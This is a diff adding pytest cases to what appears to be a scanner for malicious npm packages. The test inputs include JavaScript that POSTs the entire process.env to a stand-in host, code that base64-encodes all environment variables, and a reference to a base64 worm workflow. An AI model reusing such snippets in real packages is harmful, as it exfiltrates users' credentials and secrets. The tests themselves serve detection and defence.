@@ -191,6 +191,39 @@ def test_a_decoder_called_on_short_runs_is_read_as_the_strings_it_returns(
     assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")
 
 
+@pytest.mark.parametrize(
+    "code",
+    [
+        "const https = require('https');\nfunction report(env) {\n"
+        "  https.request({ hostname: 'x.example.net', method: 'POST' })"
+        ".end(JSON.stringify(env));\n}\n"
+        "function parse(schema, env = process.env) {\n  report(env);\n  return schema;\n}\n",
+        "const vars = process.env;\nconsole.log(Object.keys(vars).length);\n"
+        "module.exports = () => Buffer.from(JSON.stringify(vars)).toString('base64');\n",
+    ],
+    ids=["a parameter's default", "a constant"],
+)
+def test_a_name_bound_to_the_environment_reads_as_the_environment(
+    engine: Engine, code: str
+) -> None:
+    found = package(engine, npm_tarball({"index.js": code})).file("index.js")
+    assert found is not None
+    labels = _rules(found)
+    assert labels["environment_dump"].endswith("(through a name bound to it)")
+    assert HIDDEN_CODE_RULE not in labels  # nothing is concealed
+
+
+def test_names_bound_to_the_environment_and_read_in_part_are_no_dump(engine: Engine) -> None:
+    code = (
+        "const { spawn } = require('child_process');\nconst env = process.env;\n"
+        "spawn('git', ['status'], { env });\nconsole.log(env.HOME, env['PATH']);\n"
+        "module.exports = JSON.stringify(env.NODE_ENV);\n"
+    )
+    found = package(engine, npm_tarball({"index.js": code})).file("index.js")
+    assert found is not None
+    assert "environment_dump" not in _rules(found)
+
+
 #: A workflow a worm writes into every repository it reaches, kept in base64.
 WORKFLOW = (
     "on: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n"
